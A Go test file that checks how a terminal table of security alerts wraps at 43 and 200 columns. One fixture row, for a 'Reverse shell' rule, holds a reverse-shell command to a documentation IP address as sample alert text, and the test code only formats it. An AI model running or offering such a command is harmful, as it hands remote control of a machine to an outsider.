package main

import (
	"bytes"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestTable: what is too wide for the terminal stands below its row, whole.
func TestTable(t *testing.T) {
	rows := [][]string{
		{"52b2aa4e", "high", "Reverse shell", "", "bash -i  >& /dev/tcp/198.51.100.7/443 " + strings.Repeat("é", 60)},
		{"0c11f0aa", "low", "Pod listed", "shop/web", "alice"},
	}
	head := []string{"ID", "SEVERITY", "RULE", "POD", "MESSAGE"}
	const want = `ID        SEVERITY  RULE           POD
    MESSAGE
52b2aa4e  high      Reverse shell
    bash -i  >& /dev/tcp/198.51.100.7/443
    ééééééééééééééééééééééééééééééééééééééé
    ééééééééééééééééééééé
0c11f0aa  low       Pod listed     shop/web
    alice
`
	keyboard, screen := openTerminal(t)
	if err := unix.IoctlSetWinsize(int(screen.Fd()), unix.TIOCSWINSZ, &unix.Winsize{Col: 43, Row: 24}); err != nil {
		t.Fatal(err)
	}
	if err := writeTable(screen, rows, head...); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 4096)
	n, err := keyboard.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.ReplaceAll(string(buf[:n]), "\r\n", "\n")
	if got != want {
		t.Errorf("43 columns:\n%s\nwant\n%s", got, want)
	}

	// One that is wide enough, and a file, have the same.
	if err := unix.IoctlSetWinsize(int(screen.Fd()), unix.TIOCSWINSZ, &unix.Winsize{Col: 200, Row: 24}); err != nil {
		t.Fatal(err)
	}
	if err := writeTable(screen, rows, head...); err != nil {
		t.Fatal(err)
	}
	if n, err = keyboard.Read(buf); err != nil {
		t.Fatal(err)
	}
	var file bytes.Buffer
	if err := writeTable(&file, rows, head...); err != nil {
		t.Fatal(err)
	}
	if got := strings.ReplaceAll(string(buf[:n]), "\r\n", "\n"); got != file.String() || strings.Count(got, "\n") != 3 {
		t.Errorf("200 columns:\n%s\nin a file:\n%s", got, file.String())
	}
}
